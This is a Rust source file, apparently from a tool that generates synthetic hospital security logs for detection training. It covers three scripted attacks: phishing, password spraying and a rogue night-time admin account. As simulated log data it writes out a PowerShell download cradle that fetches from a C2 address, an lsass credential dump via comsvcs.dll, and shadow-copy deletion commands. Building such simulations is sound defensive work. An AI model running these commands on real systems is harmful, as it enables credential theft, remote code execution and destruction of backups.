//! The three attack stories hidden in the week.
//!
//! # What it does
//! - **Phishing** (Tuesday about 10:14, ATT&CK T1566.002 → T1204.002 → T1059.001 → T1003.001 →
//!   T1021.002 / T1569.002 → T1490): a mail from a look-alike of a known supplier's domain
//!   reaches a Radiology user; they open the link from Outlook in Edge, open the downloaded
//!   macro document in Word, Word starts a PowerShell download cradle (Sysmon 1 and script
//!   block 4104), rundll32 dumps lsass with comsvcs.dll (Sysmon 1 and 10), the attacker logs on
//!   to PACS01 with the stolen credentials, PsExec installs PSEXESVC (7045) and runs a shell
//!   that deletes the shadow copies (vssadmin, wmic).
//! - **Password spraying** (Thursday about 22:40, T1110.003 → T1078): a guest Wi-Fi tablet tries
//!   one password on about 30 clinicians' accounts at DC01 (4625, 0xC000006A) in ten minutes,
//!   succeeds for one (4624 from the same address), then uses that account at EPR01 and FILE01,
//!   servers the person never logs on to.
//! - **Night admin** (Saturday about 02:37, T1136.001 → T1098): an IT administrator account
//!   signs in to EPR01 over RDP at night, creates the local account `svc_backup2` (4720), sets
//!   its password never to expire (4738) and adds it to Administrators (4732, S-1-5-32-544).
//!
//! Times, victims and the administrator are drawn from the seed; [`StoryInfo`] describes each
//! story for `stories.json` and for tests.

use fastrand::Rng;
use jiff::{SignedDuration, Timestamp};
use serde::Serialize;
use serde_json::json;

use crate::emit::{Out, POWERSHELL, SYSMON, SYSTEM_SCM, dom, systime};
use crate::hospital::{Class, DOMAIN, Hospital, User};
use crate::security::{Logon, SYSTEM_SID};
use crate::{DemoConfig, Story};

/// What a story is, for `stories.json`: when, where, who, and the link it used.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct StoryInfo {
    pub story: Story,
    pub start: Timestamp,
    pub end: Timestamp,
    pub hosts: Vec<String>,
    pub users: Vec<String>,
    pub source_ip: Option<String>,
    pub url: Option<String>,
    /// The steps, in order, as an analyst would tell them.
    pub steps: Vec<String>,
}

const OFFICE: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";
const EDGE: &str = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const LOOKALIKE: &str = "rnedline-supplies.com";
const C2: &str = "203.0.113.66";

fn day_at(cfg: &DemoConfig, day: i64, hour: i64, minute: i64, rng: &mut Rng) -> Timestamp {
    cfg.start
        + SignedDuration::from_hours(24 * day + hour)
        + SignedDuration::from_mins(minute)
        + SignedDuration::from_millis(rng.i64(0..60_000))
}

fn secs(s: i64) -> SignedDuration {
    SignedDuration::from_secs(s)
}

/// Generate the stories that fall inside the configured period.
pub fn generate(h: &Hospital, cfg: &DemoConfig, rng: &mut Rng, out: &mut Out) -> Vec<StoryInfo> {
    let mut infos = vec![
        phishing(h, day_at(cfg, 1, 10, 10 + rng.i64(0..8), rng), rng, out),
        spraying(h, day_at(cfg, 3, 22, 36 + rng.i64(0..8), rng), rng, out),
        night_admin(h, day_at(cfg, 5, 2, 33 + rng.i64(0..8), rng), rng, out),
    ];
    let end = cfg.start + SignedDuration::from_hours(24 * i64::from(cfg.days));
    infos.retain(|i| i.end < end);
    let kept: Vec<Story> = infos.iter().map(|i| i.story).collect();
    out.records
        .retain(|r| r.story.is_none_or(|s| kept.contains(&s)));
    out.story = None;
    infos
}

fn phishing(h: &Hospital, t0: Timestamp, rng: &mut Rng, out: &mut Out) -> StoryInfo {
    let radiology: Vec<&User> = h
        .users
        .iter()
        .filter(|u| h.codes[u.department] == "RAD" && !u.id.starts_with("admin-"))
        .collect();
    let victim = radiology[rng.usize(..radiology.len())];
    let ws = &h.hosts[victim.workstation];
    let pacs = h.host("PACS01").expect("pacs");
    let invoice = format!("INV-{}", 20000 + rng.u32(..9000));
    let url = format!("https://docs.{LOOKALIKE}/invoice/{invoice}.docm");
    let user = dom(&victim.id);

    // Context the story builds on, not part of it: Outlook running since the morning.
    out.story = None;
    let explorer = out.proc(ws, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
    let outlook_cmd = format!("\"{OFFICE}OUTLOOK.EXE\" ");
    let outlook = out.sysmon_process(
        t0 - SignedDuration::from_mins(95),
        ws,
        &user,
        &explorer,
        &format!("{OFFICE}OUTLOOK.EXE"),
        &outlook_cmd,
        "Medium",
    );

    out.story = Some(Story::Phishing);
    out.mail(
        t0,
        &format!("accounts@{LOOKALIKE}"),
        &victim.email,
        &victim.id,
        &format!("Overdue invoice {invoice} - payment required today"),
        C2_MTA,
        Some(&url),
        &[],
    );
    let t1 = t0 + secs(170 + rng.i64(0..60));
    out.eve(t1 - secs(1), "dns", (&ws.ip, 53111), ("10.10.0.10", 53), "UDP", Some("dns"),
        json!({"dns": {"version": 2, "type": "query", "id": 4242, "rrname": format!("docs.{LOOKALIKE}"), "rrtype": "A", "tx_id": 0}}));
    let edge = out.sysmon_process(
        t1,
        ws,
        &user,
        &outlook,
        EDGE,
        &format!("\"{EDGE}\" --single-argument {url}"),
        "Medium",
    );
    out.eve(
        t1 + secs(1),
        "tls",
        (&ws.ip, 53112),
        (C2, 443),
        "TCP",
        Some("tls"),
        json!({"tls": {"sni": format!("docs.{LOOKALIKE}"), "version": "TLS 1.2"}}),
    );
    let doc = format!("C:\\Users\\{}\\Downloads\\{invoice}.docm", victim.id);
    let t2 = t1 + secs(40 + rng.i64(0..30));
    let word = out.sysmon_process(
        t2,
        ws,
        &user,
        &edge,
        &format!("{OFFICE}WINWORD.EXE"),
        &format!("\"{OFFICE}WINWORD.EXE\" /n \"{doc}\" /o \"\""),
        "Medium",
    );
    let t3 = t2 + secs(25 + rng.i64(0..20));
    let cradle =
        format!("IEX (New-Object Net.WebClient).DownloadString('http://{C2}/rad/update.ps1')");
    let ps = out.sysmon_process(
        t3,
        ws,
        &user,
        &word,
        PS,
        &format!("powershell.exe -nop -w hidden -c \"{cradle}\""),
        "Medium",
    );
    out.windows(
        t3 + secs(1),
        ws,
        POWERSHELL,
        4104,
        &victim.sid,
        json!({
            "MessageNumber": 1, "MessageTotal": 1,
            "ScriptBlockText": cradle,
            "ScriptBlockId": "8f2e6c1a-4d7b-4e0a-9b1c-3a5d7e9f0b12", "Path": "",
        }),
    );
    out.eve(t3 + secs(2), "http", (&ws.ip, 53120), (C2, 80), "TCP", Some("http"),
        json!({"http": {"hostname": C2, "url": "/rad/update.ps1", "http_user_agent": "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.19041.4648", "http_method": "GET", "protocol": "HTTP/1.1", "status": 200, "length": 48213}}));
    let t4 = t3 + secs(200 + rng.i64(0..120));
    let dump = out.sysmon_process(t4, ws, &user, &ps, "C:\\Windows\\System32\\rundll32.exe",
        "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump 692 C:\\Users\\Public\\rad.dmp full", "High");
    let lsass = out.proc(ws, "C:\\Windows\\system32\\lsass.exe", "");
    out.windows(t4 + SignedDuration::from_millis(150), ws, SYSMON, 10, SYSTEM_SID, json!({
        "RuleName": "-", "UtcTime": (t4 + SignedDuration::from_millis(150)).strftime("%Y-%m-%d %H:%M:%S%.3f").to_string(),
        "SourceProcessGUID": dump.guid, "SourceProcessId": dump.pid, "SourceThreadId": 5140,
        "SourceImage": "C:\\Windows\\System32\\rundll32.exe",
        "TargetProcessGUID": lsass.guid, "TargetProcessId": 692,
        "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1FFFFF",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+16d7a",
        "SourceUser": user, "TargetUser": "NT AUTHORITY\\SYSTEM",
    }));
    // Lateral movement to PACS01 with the stolen credentials, then PsExec.
    let t5 = t4 + SignedDuration::from_mins(14 + rng.i64(0..8));
    let lid = out.logon(
        t5,
        pacs,
        &Logon {
            user: &victim.id,
            sid: &victim.sid,
            logon_type: 3,
            ip: &ws.ip,
            workstation: &ws.name,
        },
    );
    out.eve(t5 - secs(1), "flow", (&ws.ip, 53200), (&pacs.ip, 445), "TCP", Some("smb"),
        json!({"flow": {"pkts_toserver": 40, "pkts_toclient": 38, "bytes_toserver": 9120, "bytes_toclient": 12004, "start": t5.strftime("%Y-%m-%dT%H:%M:%S%.6f+0000").to_string(), "end": (t5 + secs(30)).strftime("%Y-%m-%dT%H:%M:%S%.6f+0000").to_string(), "age": 30, "state": "closed", "reason": "timeout", "alerted": false}}));
    // The network sensor sees PsExec on the wire: ADMIN$ mapped, the service created over svcctl.
    out.zeek(crate::network::psexec(
        t5 + secs(1),
        &ws.ip,
        &pacs.ip,
        &pacs.name,
        STORY_UIDS,
    ));
    out.windows(t5 + secs(3), pacs, SYSTEM_SCM, 7045, SYSTEM_SID, json!({
        "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
        "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem",
    }));
    let services = out.proc(
        pacs,
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\system32\\services.exe",
    );
    let psexesvc = out.sysmon_process(
        t5 + secs(4),
        pacs,
        "NT AUTHORITY\\SYSTEM",
        &services,
        "C:\\Windows\\PSEXESVC.exe",
        "C:\\Windows\\PSEXESVC.exe",
        "System",
    );
    let cmd = out.sysmon_process(
        t5 + secs(6),
        pacs,
        &user,
        &psexesvc,
        "C:\\Windows\\System32\\cmd.exe",
        "\"cmd.exe\" ",
        "High",
    );
    let t6 = t5 + secs(60 + rng.i64(0..60));
    out.sysmon_process(
        t6,
        pacs,
        &user,
        &cmd,
        "C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin  delete shadows /all /quiet",
        "High",
    );
    out.sysmon_process(
        t6 + secs(9),
        pacs,
        &user,
        &cmd,
        "C:\\Windows\\System32\\wbem\\WMIC.exe",
        "wmic  shadowcopy delete",
        "High",
    );
    // And from PACS01 on to the file server the same way, seen only on the wire.
    let file = h.host("FILE01").expect("file server");
    out.zeek(crate::network::psexec(
        t6 + secs(20),
        &pacs.ip,
        &file.ip,
        &file.name,
        STORY_UIDS + 100,
    ));
    let end = t6 + secs(30);
    out.logoff(end, pacs, &victim.id, &victim.sid, &lid, 3);
    StoryInfo {
        story: Story::Phishing,
        start: t0,
        end,
        hosts: vec![ws.name.clone(), pacs.name.clone()],
        users: vec![victim.id.clone()],
        source_ip: Some(C2_MTA.into()),
        url: Some(url),
        steps: vec![
            format!(
                "mail from accounts@{LOOKALIKE} (look-alike of medline-supplies.com) delivered to {}",
                victim.email
            ),
            format!("link opened from Outlook in Edge on {}", ws.name),
            format!("{invoice}.docm opened in Word"),
            "Word started a PowerShell download cradle".into(),
            "lsass dumped with rundll32 comsvcs.dll MiniDump".into(),
            format!("network logon as {} to PACS01 from {}", victim.id, ws.ip),
            "PsExec service PSEXESVC installed on PACS01 and ran a shell".into(),
            "shadow copies deleted on PACS01 (vssadmin, wmic)".into(),
            "from PACS01 on to FILE01 over SMB (ADMIN$ and a service over svcctl, seen by the network sensor)".into(),
        ],
    }
}

/// Where the stories' Zeek connection ids start (far past the background's).
const STORY_UIDS: u64 = 1 << 40;

/// The sending MTA of the phishing mail.
const C2_MTA: &str = "203.0.113.25";

fn spraying(h: &Hospital, t0: Timestamp, rng: &mut Rng, out: &mut Out) -> StoryInfo {
    let tablet = h
        .hosts
        .iter()
        .find(|x| x.ip == "10.99.3.17" && x.class == Class::GuestWifi)
        .expect("tablet");
    let dc = h.host("DC01").expect("dc01");
    // Clinicians: the people whose accounts a spray of common passwords goes for.
    let mut pool: Vec<&User> = h
        .users
        .iter()
        .filter(|u| {
            matches!(u.role, "nurse" | "physician")
                && !matches!(h.codes[u.department], "ADM" | "PHA" | "LAB" | "IT")
        })
        .collect();
    rng.shuffle(&mut pool);
    let targets = &pool[..30];
    let victim = targets[10 + rng.usize(..15)];
    out.story = Some(Story::PasswordSpray);
    let joined = t0 - SignedDuration::from_mins(6);
    out.syslog(
        joined,
        16,
        6,
        "WLC01",
        "wlc",
        0,
        "Client 3c:22:fb:1e:7a:17 associated to SSID Hospital-Guest on AP ap-lobby-03",
    );
    let mut t = t0;
    for u in targets {
        t += SignedDuration::from_millis(15_000 + rng.i64(0..10_000));
        out.logon_failed(
            t,
            dc,
            &Logon {
                user: &u.id,
                sid: &u.sid,
                logon_type: 3,
                ip: &tablet.ip,
                workstation: &tablet.name,
            },
        );
    }
    let t_ok = t + secs(40 + rng.i64(0..60));
    let id = out.logon(
        t_ok,
        dc,
        &Logon {
            user: &victim.id,
            sid: &victim.sid,
            logon_type: 3,
            ip: &tablet.ip,
            workstation: &tablet.name,
        },
    );
    out.logoff(t_ok + secs(1), dc, &victim.id, &victim.sid, &id, 3);
    let mut end = t_ok;
    for (name, after) in [
        ("EPR01", 9 + rng.i64(0..10)),
        ("FILE01", 25 + rng.i64(0..20)),
    ] {
        let srv = h.host(name).expect("server");
        let ts = t_ok + SignedDuration::from_mins(after);
        let id = out.logon(
            ts,
            srv,
            &Logon {
                user: &victim.id,
                sid: &victim.sid,
                logon_type: 3,
                ip: &tablet.ip,
                workstation: &tablet.name,
            },
        );
        out.eve(ts - secs(1), "flow", (&tablet.ip, 50211), (&srv.ip, 445), "TCP", Some("smb"),
            json!({"flow": {"pkts_toserver": 120, "pkts_toclient": 340, "bytes_toserver": 24100, "bytes_toclient": 812000, "start": ts.strftime("%Y-%m-%dT%H:%M:%S%.6f+0000").to_string(), "end": (ts + secs(240)).strftime("%Y-%m-%dT%H:%M:%S%.6f+0000").to_string(), "age": 240, "state": "closed", "reason": "timeout", "alerted": false}}));
        end = ts + secs(240);
        out.logoff(end, srv, &victim.id, &victim.sid, &id, 3);
    }
    StoryInfo {
        story: Story::PasswordSpray,
        start: joined,
        end,
        hosts: vec![
            tablet.name.clone(),
            "DC01".into(),
            "EPR01".into(),
            "FILE01".into(),
        ],
        users: std::iter::once(victim.id.clone())
            .chain(
                targets
                    .iter()
                    .filter(|u| u.id != victim.id)
                    .map(|u| u.id.clone()),
            )
            .collect(),
        source_ip: Some(tablet.ip.clone()),
        url: None,
        steps: vec![
            format!("{} joined the guest Wi-Fi", tablet.name),
            format!(
                "{} failed logons at DC01 from guest Wi-Fi {} ({})",
                targets.len(),
                tablet.ip,
                tablet.name
            ),
            format!(
                "successful logon as {} at DC01 from {}",
                victim.id, tablet.ip
            ),
            format!(
                "{} logged on to EPR01 and FILE01 from {}",
                victim.id, tablet.ip
            ),
        ],
    }
}

fn night_admin(h: &Hospital, t0: Timestamp, rng: &mut Rng, out: &mut Out) -> StoryInfo {
    let admins: Vec<&User> = h
        .users
        .iter()
        .filter(|u| u.id.starts_with("admin-"))
        .collect();
    let admin = admins[rng.usize(..admins.len())];
    let from = &h.hosts[admin.workstation];
    let epr = h.host("EPR01").expect("epr");
    out.story = Some(Story::NightAdmin);
    let id = out.logon(
        t0,
        epr,
        &Logon {
            user: &admin.id,
            sid: &admin.sid,
            logon_type: 10,
            ip: &from.ip,
            workstation: &from.name,
        },
    );
    out.special_privileges(t0, epr, admin, &id);
    let local_sid = "S-1-5-21-1861204529-2774151201-4191385826-1003";
    let subject = json!({
        "SubjectUserSid": admin.sid, "SubjectUserName": admin.id,
        "SubjectDomainName": DOMAIN, "SubjectLogonId": id,
    });
    let with_subject = |mut v: serde_json::Value| {
        if let (Some(o), Some(s)) = (v.as_object_mut(), subject.as_object()) {
            o.extend(s.clone());
        }
        v
    };
    let t1 = t0 + SignedDuration::from_mins(3 + rng.i64(0..3));
    out.windows(
        t1,
        epr,
        crate::emit::SECURITY,
        4720,
        SYSTEM_SID,
        with_subject(json!({
            "TargetUserName": "svc_backup2", "TargetDomainName": "EPR01", "TargetSid": local_sid,
            "PrivilegeList": "-", "SamAccountName": "svc_backup2", "DisplayName": "%%1793",
            "UserPrincipalName": "-", "HomeDirectory": "%%1793", "HomePath": "%%1793",
            "ScriptPath": "%%1793", "ProfilePath": "%%1793", "UserWorkstations": "%%1793",
            "PasswordLastSet": "%%1794", "AccountExpires": "%%1794", "PrimaryGroupId": "513",
            "AllowedToDelegateTo": "-", "OldUacValue": "0x0", "NewUacValue": "0x15",
            "UserAccountControl": "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084",
            "UserParameters": "%%1793", "SidHistory": "-", "LogonHours": "%%1797",
        })),
    );
    let t2 = t1 + secs(20 + rng.i64(0..20));
    out.windows(t2, epr, crate::emit::SECURITY, 4738, SYSTEM_SID, with_subject(json!({
        "Dummy": "-", "TargetUserName": "svc_backup2", "TargetDomainName": "EPR01", "TargetSid": local_sid,
        "PrivilegeList": "-", "SamAccountName": "-", "DisplayName": "-", "UserPrincipalName": "-",
        "PasswordLastSet": systime(t2), "OldUacValue": "0x10", "NewUacValue": "0x210",
        "UserAccountControl": "\r\n\t\t%%2089",
    })));
    let t3 = t2 + secs(30 + rng.i64(0..30));
    out.windows(t3, epr, crate::emit::SECURITY, 4732, SYSTEM_SID, with_subject(json!({
        "MemberName": "-", "MemberSid": local_sid,
        "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544",
        "PrivilegeList": "-",
    })));
    let end = t3 + SignedDuration::from_mins(4 + rng.i64(0..4));
    out.logoff(end, epr, &admin.id, &admin.sid, &id, 10);
    StoryInfo {
        story: Story::NightAdmin,
        start: t0,
        end,
        hosts: vec!["EPR01".into(), from.name.clone()],
        users: vec![admin.id.clone(), "svc_backup2".into()],
        source_ip: Some(from.ip.clone()),
        url: None,
        steps: vec![
            format!(
                "{} signed in to EPR01 over RDP from {} at night",
                admin.id, from.name
            ),
            "local account svc_backup2 created on EPR01".into(),
            "svc_backup2 set to never expire its password".into(),
            "svc_backup2 added to the local Administrators group".into(),
        ],
    }
}
